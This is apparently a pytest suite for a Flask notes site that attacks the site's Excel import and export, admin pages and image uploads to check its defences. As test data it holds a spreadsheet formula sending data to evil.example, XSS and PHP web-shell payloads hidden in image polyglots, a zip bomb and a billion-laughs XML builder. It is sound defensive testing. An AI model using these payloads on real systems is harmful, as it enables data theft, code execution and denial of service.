"""Issue 12, items 7-11: the notes site's data handling attacked through the Flask client.

Excel export formula injection, import limits, the admin, uploads (polyglots, EXIF, bombs) and a
SQLite file that goes away while the site serves.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from notes.extensions import db
from notes.models import Note

from .conftest import PASSWORD, csrf, make_app
from .test_site import write

# -- 11. the SQLite file ---------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_a_missing_sqlite_file_is_an_error_not_a_new_database(db_url, tmp_path, login) -> None:
    from notes.auth import create_user

    app = make_app(db_url, tmp_path / "data")
    path = Path(db_url.removeprefix("sqlite:///"))
    with app.app_context():
        create_user("alice@example.com", PASSWORD)
    client = app.test_client()
    login(client, "alice@example.com")
    write(client, "Kept")
    assert client.get("/n/kept").status_code == 200
    with app.app_context():
        from notes.api import issue_token
        from notes.models import User

        token = issue_token(db.session.get(User, 1), "t")
    anonymous = app.test_client()  # (a signed-in page needs the database for its header)
    moved = path.with_name("moved.db")
    path.rename(moved)
    try:
        assert anonymous.get("/").status_code == 503
        assert anonymous.get("/n/kept").status_code == 503
        r = anonymous.post("/api/notes", json={"title": "Lost"},
                           headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 503
        assert not path.exists(), "an empty database was created in place of the missing one"
    finally:
        moved.rename(path)
    assert anonymous.get("/n/kept").status_code == 200  # back without a restart
    fresh = tmp_path / "fresh" / "notes.db"
    env = {**os.environ, "NOTES_DATABASE_URL": f"sqlite:///{fresh}",
           "NOTES_DATA_DIR": str(tmp_path / "fresh")}
    r = subprocess.run([sys.executable, "-m", "flask", "--app", "notes", "users", "list"],
                       env=env, capture_output=True, text=True, timeout=120, check=False)
    assert r.returncode != 0 and not fresh.exists()  # only `db upgrade` creates it
    r = subprocess.run([sys.executable, "-m", "flask", "--app", "notes", "db", "upgrade"],
                       env=env, capture_output=True, text=True, timeout=120, check=False)
    assert r.returncode == 0, r.stderr
    assert fresh.exists()


# -- 9. the admin ----------------------------------------------------------------------------

LEAKS = ("SQL", "Traceback", "sqlalchemy", "sqlite3", "psycopg", "pymysql", "IntegrityError",
         "INSERT INTO", "UPDATE users", "File \"")


def no_leak(page: str) -> None:
    found = [word for word in LEAKS if word in page]
    assert not found, f"the page shows {found}"


def admin_post(client, path: str, data: dict[str, object]):  # type: ignore[no-untyped-def]
    r = client.post(path, data={"csrf_token": csrf(client, path), **data}, follow_redirects=True)
    no_leak(r.get_data(as_text=True))
    return r


def test_admin_edits_and_deactivates_a_user(app, client, user, other, admin, login) -> None:
    from notes.models import User

    login(client, admin[0].email)
    r = admin_post(client, f"/admin/user/edit/?id={user[0].id}",
                   {"email": " Alice.New@Example.com ", "active": "y"})
    assert "Record was successfully saved" in r.get_data(as_text=True)
    r = admin_post(client, f"/admin/user/edit/?id={user[0].id}", {"email": "alice.new@example.com"})
    assert "Record was successfully saved" in r.get_data(as_text=True)  # deactivated
    with app.app_context():
        alice = db.session.get(User, user[0].id)
        assert (alice.email, alice.active) == ("alice.new@example.com", False)
    assert login(app.test_client(), "alice.new@example.com").status_code != 302  # cannot log in
    taken = admin_post(client, f"/admin/user/edit/?id={user[0].id}", {"email": other[0].email})
    assert "Already exists." in taken.get_data(as_text=True)  # the real duplicate is refused
    bad = admin_post(client, f"/admin/user/edit/?id={user[0].id}", {"email": "not an email"})
    assert "Invalid email address." in bad.get_data(as_text=True)
    me = admin_post(client, f"/admin/user/edit/?id={admin[0].id}",
                    {"email": admin[0].email, "active": "y"})  # admin box unticked
    assert "cannot take away your own admin rights" in me.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(User, admin[0].id).is_admin
        assert db.session.get(User, user[0].id).email == "alice.new@example.com"


def test_admin_creates_a_note(app, client, user, admin, login) -> None:
    login(client, admin[0].email)
    for title in ("From the admin", "From the admin"):  # the second gets its own address
        r = admin_post(client, "/admin/note/new/", {
            "author": str(user[0].id), "title": title, "published": "y",
            "body": "<p>hello</p><img src=x alt=x onerror=alert(1)>"})
        assert "Record was successfully created" in r.get_data(as_text=True)
    with app.app_context():
        notes = db.session.query(Note).order_by(Note.id).all()
        assert [n.slug for n in notes] == ["from-the-admin", "from-the-admin-2"]
        assert notes[0].published_at is not None and "onerror" not in notes[0].body
    assert "hello" in app.test_client().get("/n/from-the-admin-2").get_data(as_text=True)


def test_a_database_refusal_in_the_admin_is_told_in_words(app, client, user, other, admin,
                                                          login) -> None:
    """Two admins at once: the email is free when the form is checked, taken when it is saved."""
    from sqlalchemy import event, text

    login(client, admin[0].email)
    with app.app_context():
        engine = db.engine
        done: list[bool] = []

        def race(conn, cursor, statement, *args) -> None:  # type: ignore[no-untyped-def]
            if statement.lstrip().upper().startswith("UPDATE USERS") and not done:
                done.append(True)
                with engine.begin() as other_admin:
                    other_admin.execute(text(
                        "UPDATE users SET email = 'raced@example.com' WHERE id = :id"),
                        {"id": other[0].id})

        event.listen(engine, "before_cursor_execute", race)
        try:
            r = admin_post(client, f"/admin/user/edit/?id={user[0].id}",
                           {"email": "raced@example.com", "active": "y"})
        finally:
            event.remove(engine, "before_cursor_execute", race)
    page = r.get_data(as_text=True)
    assert r.status_code == 200 and "Not saved: another record already uses this value" in page


def test_bad_admin_addresses_are_4xx_without_sql(client, admin, login) -> None:
    login(client, admin[0].email)
    for path in ("/admin/note/?page=99999999999999999999", "/admin/note/?page=-5",
                 "/admin/note/edit/?id=abc", "/admin/note/edit/?id=99999999999999999999",
                 "/admin/user/details/?id=1e9",
                 "/admin/note/?sort=999&flt0_0=notabool&search=%27%22%25"):
        r = client.get(path)
        assert r.status_code < 500, path
        no_leak(r.get_data(as_text=True))
    action = client.post("/admin/note/action/", data={
        "csrf_token": csrf(client, "/admin/note/"), "action": "delete",
        "rowid": ["abc", "99999999999999999999"]})
    assert action.status_code == 400


# -- 7. Excel export: no formulas -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=1+2", "+1+2", "-1+2", "@SUM(1)",
            "\t=1+2", "\r=1+2"]


def xlsx(rows: list[list[object]], write_only: bool = True) -> bytes:
    from openpyxl import Workbook

    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("notes") if write_only else book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def import_file(client, data: bytes, name: str = "notes.xlsx"):  # type: ignore[no-untyped-def]
    r = client.post("/admin/excel/import", data={
        "csrf_token": csrf(client, "/admin/excel/"), "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data", follow_redirects=True)
    no_leak(r.get_data(as_text=True))
    return r


def test_export_writes_formulas_as_text(app, client, user, admin, login) -> None:
    import zipfile

    from openpyxl import load_workbook

    from notes.models import User
    from notes.services import create_note

    with app.app_context():
        alice = db.session.get(User, user[0].id)
        for text in FORMULAS:
            create_note(alice, text, text)  # (the title's tab and CR are stripped)
        db.session.commit()
        stored = sorted([(n.title, n.body) for n in db.session.query(Note)])
        assert any(body.startswith("\t") for _, body in stored)
    login(client, admin[0].email)
    r = client.get("/admin/excel/export")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(r.data)).active
    header = [c.value for c in sheet[1]]
    title, body = header.index("title") + 1, header.index("body") + 1
    cells = [(sheet.cell(n, title), sheet.cell(n, body)) for n in range(2, sheet.max_row + 1)]
    assert sorted((t.value, b.value) for t, b in cells) == stored
    for pair in cells:
        for cell in pair:
            assert cell.data_type == "s" and cell.quotePrefix, repr(cell.value)
    again = import_file(client, r.data)  # the export imports back unchanged, as text
    assert f"0 created, 0 updated, {len(FORMULAS)} skipped" in again.get_data(as_text=True)


# -- 8. Excel import: limits, all-or-nothing, a short write -----------------------------------


def test_import_applies_the_form_and_api_limits_per_cell(app, client, user, admin, login) -> None:
    login(client, admin[0].email)
    cells = ["y" * 16_000] * 62  # a cell holds 32,767 characters: longer texts continue
    data = xlsx([["title", "author", "body", "id"] + [f"body_{n}" for n in range(2, 64)],
                 ["Fine", user[0].email, "<p>ok</p>"],
                 ["x" * 201, user[0].email, "<p>ok</p>"],
                 ["Long", user[0].email, "x" * 8001, None, *cells],
                 ["Bad id", user[0].email, "", "seven"],
                 ])
    r = import_file(client, data)
    page = r.get_data(as_text=True)
    assert r.status_code == 422
    assert "row 3, column title: longer than 200 characters" in page
    assert "row 4, column body: longer than 1000000 characters" in page
    assert "row 5, column id: &#39;seven&#39; is not a note number" in page
    with app.app_context():
        assert db.session.query(Note).count() == 0  # all or nothing
    exactly = xlsx([["title", "author", "body", "body_2"] + [f"body_{n}" for n in range(3, 64)],
                    ["x" * 200, user[0].email, "x" * 8000, *cells]])
    assert "1 created" in import_file(client, exactly).get_data(as_text=True)
    with app.app_context():
        assert len(db.session.query(Note).one().body) == 1_000_000
    export = client.get("/admin/excel/export").data  # and back, whole, through a spreadsheet
    again = import_file(client, export).get_data(as_text=True)
    assert "0 created, 0 updated, 1 skipped" in again


HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" '
              't="inlineStr"><is><t>author</t></is></c><c r="C1" t="inlineStr"><is><t>body</t>'
              '</is></c></row>')


def raw_xlsx(rows: str | list[bytes], shared: str | None = None, prolog: str = "") -> bytes:
    """An .xlsx written by hand: sheet rows as XML (a list: streamed chunks), and optionally
    one shared string (what Excel itself writes; openpyxl writes inline strings)."""
    import zipfile

    template = zipfile.ZipFile(io.BytesIO(xlsx([["title", "author", "body"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for member in template.infolist():
            data = template.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                continue
            if shared is not None and member.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", (
                    b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/sharedStrings" '
                    b'Target="sharedStrings.xml"/></Relationships>'))
            if shared is not None and member.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", (
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
                    b'</Types>'))
            book.writestr(member, data)
        if shared is not None:
            book.writestr("xl/sharedStrings.xml", (
                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'count="1" uniqueCount="1"><si><t>{shared}</t></si></sst>'))
        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write((prolog + '<worksheet xmlns="http://schemas.openxmlformats.org/'
                         'spreadsheetml/2006/main"><sheetData>' + HEADER_ROW).encode())
            for chunk in [rows.encode()] if isinstance(rows, str) else rows:
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def zip_bomb(user_email: str, megabytes: int) -> bytes:
    """An .xlsx whose one sheet holds a cell of ``megabytes`` MB of text (about 1000:1)."""
    mb = b"a" * (1024 * 1024)
    return raw_xlsx([(f'<row r="2"><c r="A2" t="inlineStr"><is><t>Bomb</t></is></c><c r="B2" '
                      f't="inlineStr"><is><t>{user_email}</t></is></c><c r="C2" t="inlineStr">'
                      '<is><t>').encode(), *[mb] * megabytes, b"</t></is></c></row>"])


def test_import_refuses_big_files_zip_bombs_and_too_many_rows(app, client, user, admin,
                                                               login) -> None:

    login(client, admin[0].email)
    bomb = zip_bomb(user[0].email, 100)
    assert len(bomb) < 200_000
    r = import_file(client, bomb)
    assert r.status_code == 422
    assert "the file unpacks to more than 32 MB (NOTES_IMPORT_MAX_UNPACKED)" in r.get_data(
        as_text=True)
    # one 1,000,000-character text shared by many cells: small unpacked, huge when read
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>S{n}</t></is></c>'
                   f'<c r="B{n}" t="inlineStr"><is><t>{user[0].email}</t></is></c>'
                   f'<c r="C{n}" t="s"><v>0</v></c></row>' for n in range(2, 42))
    r = import_file(client, raw_xlsx(rows, shared="s" * 1_000_000))
    assert r.status_code == 422
    assert "holds more than 33554432 characters of text" in r.get_data(as_text=True)
    app.config.update(NOTES_IMPORT_MAX_ROWS=3, NOTES_IMPORT_MAX_SIZE=20_000)
    rows = xlsx([["title", "author", "body"]] + [[f"n{i}", user[0].email, "x"] for i in range(4)])
    r = import_file(client, rows)
    assert r.status_code == 422
    assert "the file has more than 3 notes (NOTES_IMPORT_MAX_ROWS)" in r.get_data(as_text=True)
    big = xlsx([["title", "author", "body", "body_2"],
                ["Big", user[0].email, os.urandom(15000).hex(), os.urandom(15000).hex()]])
    assert 20_000 < len(big) < 80_000
    r = import_file(client, big)
    assert r.status_code == 422 and "the file is larger than" in r.get_data(as_text=True)
    huge = import_file(client, big * 10)  # refused before the upload is read
    assert huge.status_code == 413 and "(NOTES_IMPORT_MAX_SIZE)" in huge.get_data(as_text=True)
    with app.app_context():
        assert db.session.query(Note).count() == 0


def test_import_refuses_xml_entity_expansion(app, client, user, admin, login) -> None:
    login(client, admin[0].email)
    entities = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'
                       for i in range(1, 10))
    laughs = raw_xlsx(
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>L</t></is></c><c r="B2" t="inlineStr">'
        f'<is><t>{user[0].email}</t></is></c><c r="C2" t="inlineStr"><is><t>&lol9;</t></is>'
        '</c></row>',
        prolog=f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>')
    r = import_file(client, laughs)
    assert r.status_code == 422 and "not a readable .xlsx file" in r.get_data(as_text=True)
    with app.app_context():
        assert db.session.query(Note).count() == 0


def test_importing_an_export_updates_the_notes_it_names(app, client, user, other, admin,
                                                        login) -> None:
    from openpyxl import load_workbook

    login(client, user[0].email)
    for title in ("One", "Two", "Three"):
        write(client, title, f"<p>{title}</p>")
    boss = app.test_client()
    login(boss, admin[0].email)
    book = load_workbook(io.BytesIO(boss.get("/admin/excel/export").data))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    col = {name: header.index(name) + 1 for name in header}
    sheet.cell(2, col["title"], "One, retitled")  # by id
    sheet.cell(3, col["id"], None)  # by slug
    sheet.cell(3, col["author"], other[0].email)
    sheet.append(["", "Four", user[0].email, True, "<p>4</p>"])  # new
    sheet.append([None, "Elsewhere", user[0].email, False, "<p>5</p>", "from-another-site"])
    out = io.BytesIO()
    book.save(out)
    r = import_file(boss, out.getvalue())
    assert "Imported: 2 created, 2 updated, 1 skipped (unchanged)." in r.get_data(as_text=True)
    with app.app_context():
        notes = {n.title: n for n in db.session.query(Note)}
        assert sorted(notes) == ["Elsewhere", "Four", "One, retitled", "Three", "Two"]
        assert notes["One, retitled"].slug == "one"  # links keep working
        assert notes["Two"].author_id == other[0].id
        assert notes["Elsewhere"].slug == "from-another-site"
        assert notes["Four"].published and notes["Four"].published_at is not None
    again = import_file(boss, out.getvalue())  # rows naming no note are new each time
    assert "Imported: 1 created, 0 updated, 4 skipped" in again.get_data(as_text=True)
    clash = xlsx([["id", "title", "author", "body", "slug"],
                  [1, "x", user[0].email, "", "two"], [1, "y", user[0].email, "", "one"],
                  [1, "z", user[0].email, "", ""]])
    r = import_file(boss, clash)
    page = r.get_data(as_text=True)
    assert r.status_code == 422
    assert "row 2, column slug: id 1 and slug &#39;two&#39; name two different notes" in page
    assert "row 4, column id: the same note as row 3" in page


def test_an_import_does_not_lock_other_writers_out(app, client, user, admin, login) -> None:
    """Thousands of rows: other users keep writing meanwhile (never a 503 for a locked
    database), and the import writes everything at once."""
    import threading

    from notes.auth import create_user

    login(client, admin[0].email)
    rows = [["title", "author", "body", "published"]] + [
        [f"Imported {i}", user[0].email, f"<p>{i} {'words ' * 150}</p>", "yes"]
        for i in range(5000)]
    data = xlsx(rows)
    with app.app_context():
        for n in range(3):
            create_user(f"writer{n}@example.com", PASSWORD)
    done = threading.Event()
    statuses: list[int] = []

    def writer(n: int) -> None:
        other = app.test_client()
        login(other, f"writer{n}@example.com")
        token = csrf(other, "/notes/new")
        i = 0
        while not done.is_set() or i < 3:
            r = other.post("/notes/new", data={"title": f"w{n} {i}", "body": "x",
                                               "csrf_token": token})
            statuses.append(r.status_code)
            i += 1

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(3)]
    for t in threads:
        t.start()
    try:
        r = import_file(client, data)
    finally:
        done.set()
        for t in threads:
            t.join(120)
    assert "Imported: 5000 created" in r.get_data(as_text=True)
    assert statuses and set(statuses) == {302}, sorted(set(statuses))
    with app.app_context():
        assert db.session.query(Note).count() == 5000 + len(statuses)


# -- 10. uploads ----------------------------------------------------------------------------


def upload(client, data: bytes, name: str = "x.png"):  # type: ignore[no-untyped-def]
    return client.post("/upload", data={"upload": (io.BytesIO(data), name)},
                       headers={"X-CSRFToken": csrf(client, "/notes/new")},
                       content_type="multipart/form-data")


def picture(fmt: str, size: tuple[int, int] = (40, 20), **options: object) -> bytes:
    from PIL import Image

    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 200), (0, 0, size[0] // 2, size[1]))  # left half blue: orientation
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def stored(client, response) -> bytes:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)
    served = client.get(response.json["url"])
    assert served.status_code == 200
    return bytes(served.data)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # files, not the database
def test_polyglot_uploads_are_written_anew(client, user, login) -> None:
    from PIL import Image

    login(client, user[0].email)
    html = b"<html><script>alert(document.cookie)</script></html>"
    gif = picture("GIF", comment=html) + html  # a GIF that is also an HTML page
    assert Image.open(io.BytesIO(gif)).format == "GIF" and html in gif
    out = stored(client, upload(client, gif, "x.gif"))
    assert b"<script" not in out and b"alert" not in out
    assert Image.open(io.BytesIO(out)).size == (40, 20)
    php = b"<?php system($_GET['c']); ?>"
    jpeg = picture("JPEG", comment=php) + php
    out = stored(client, upload(client, jpeg, "x.jpg"))
    assert b"<?php" not in out and b"system(" not in out
    png = picture("PNG")
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("payload", html.decode())
    tagged = io.BytesIO()
    Image.open(io.BytesIO(png)).save(tagged, format="PNG", pnginfo=info)
    out = stored(client, upload(client, tagged.getvalue() + html))
    assert b"<script" not in out and Image.open(io.BytesIO(out)).format == "PNG"
    webp = stored(client, upload(client, picture("WEBP") + html, "x.webp"))
    assert b"<script" not in webp and Image.open(io.BytesIO(webp)).format == "WEBP"


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_photo_metadata_goes_and_orientation_is_applied(client, user, login) -> None:
    from PIL import Image

    login(client, user[0].email)
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: the camera was turned; show it rotated 90° clockwise
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    jpeg = picture("JPEG", exif=exif.tobytes(), icc_profile=icc)
    assert Image.open(io.BytesIO(jpeg)).getexif().get_ifd(0x8825)
    out = stored(client, upload(client, jpeg, "photo.jpg"))
    image = Image.open(io.BytesIO(out))
    assert b"Exif" not in out and b"PhoneMaker" not in out
    assert not image.getexif() and "exif" not in image.info and "icc_profile" not in image.info
    assert image.size == (20, 40)  # turned upright
    top = image.convert("RGB").getpixel((10, 2))
    assert top[2] > 150 and top[0] < 100  # the blue half is now on top


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_bad_and_huge_images_are_refused_in_words(app, client, user, login) -> None:
    from PIL import Image

    login(client, user[0].email)
    bomb = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(bomb, format="PNG")  # 100 megapixels, ~20 KB
    assert len(bomb.getvalue()) < 100_000
    r = upload(client, bomb.getvalue())
    assert r.status_code == 413
    assert r.json["error"]["message"] == ("The image is 10000 x 10000 pixels; the largest "
                                          "accepted is 40 megapixels.")
    bigger = io.BytesIO()
    Image.new("1", (15_000, 15_000)).save(bigger, format="PNG")  # past Pillow's own limit
    r = upload(client, bigger.getvalue())
    assert r.status_code == 413 and "more than 40 megapixels" in r.json["error"]["message"]
    frames = [Image.new("L", (1000, 1000), 5 * i) for i in range(41)]  # 41 megapixels in all
    gif = io.BytesIO()
    frames[0].save(gif, format="GIF", save_all=True, append_images=frames[1:])
    r = upload(client, gif.getvalue(), "x.gif")
    assert r.status_code == 413 and "too many frames" in r.json["error"]["message"]
    animation = io.BytesIO()
    frames[0].save(animation, format="GIF", save_all=True, append_images=frames[1:3],
                   duration=200, loop=0)
    out = stored(client, upload(client, animation.getvalue(), "a.gif"))
    assert Image.open(io.BytesIO(out)).n_frames == 3  # animations stay animated
    truncated = picture("PNG", (400, 400))[:300]
    r = upload(client, truncated)
    assert r.status_code == 400 and "damaged or incomplete" in r.json["error"]["message"]
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    assert upload(client, svg, "x.svg").status_code == 415
    r = upload(client, b"x" * (app.config["NOTES_MAX_IMAGE"] + 1))
    assert r.status_code == 413 and "at most 9.5 MB" in r.json["error"]["message"]


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_what_the_app_serves_is_never_sniffed(app, client, user, login) -> None:
    login(client, user[0].email)
    url = upload(client, picture("PNG")).json["url"]
    served = app.test_client().get(url)
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Type"] == "image/png"
    assert "sandbox" in served.headers["Content-Security-Policy"]
    assert "default-src 'none'" in served.headers["Content-Security-Policy"]
    for path in ("/static/style.css", "/", "/api/notes", "/openapi.json", "/nothing-here"):
        assert app.test_client().get(path).headers["X-Content-Type-Options"] == "nosniff", path
    uploads = Path(app.config["NOTES_DATA_DIR"]) / "uploads"
    (uploads / ".half-written.png.tmp").write_bytes(b"<script>")
    assert app.test_client().get("/media/.half-written.png.tmp").status_code == 404


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_uploads_stored_before_are_written_anew_on_request(app, tmp_path) -> None:
    """`flask --app notes uploads reencode`: for files stored when only magic bytes were
    checked."""
    uploads = Path(app.config["NOTES_DATA_DIR"]) / "uploads"
    html = b"<script>alert(1)</script>"
    (uploads / "old.gif").write_bytes(picture("GIF") + html)
    (uploads / "fake.png").write_bytes(b"\x89PNG\r\n\x1a\n" + html)
    (uploads / "wide0000.png").write_bytes(picture("PNG", (3000, 1000)))
    r = app.test_cli_runner().invoke(args=["uploads", "reencode"])
    assert r.exit_code == 0 and "2 rewritten, 1 refused" in r.output
    # brought to NOTES_IMAGE_SIDE, with its smaller copies (made once: run again, the same)
    from PIL import Image

    assert Image.open(uploads / "wide0000.png").size == (2560, 853)
    made = sorted(p.name for p in uploads.glob("wide0000*"))
    assert made == ["wide0000-1600w.png", "wide0000-480w.png", "wide0000-960w.png",
                    "wide0000.png"]
    again = app.test_cli_runner().invoke(args=["uploads", "reencode"])
    assert "2 rewritten, 0 refused" in again.output
    assert sorted(p.name for p in uploads.glob("wide0000*")) == made
    assert html not in (uploads / "old.gif").read_bytes()
    assert not (uploads / "fake.png").exists()
    assert (Path(app.config["NOTES_DATA_DIR"]) / "uploads-refused" / "fake.png").exists()
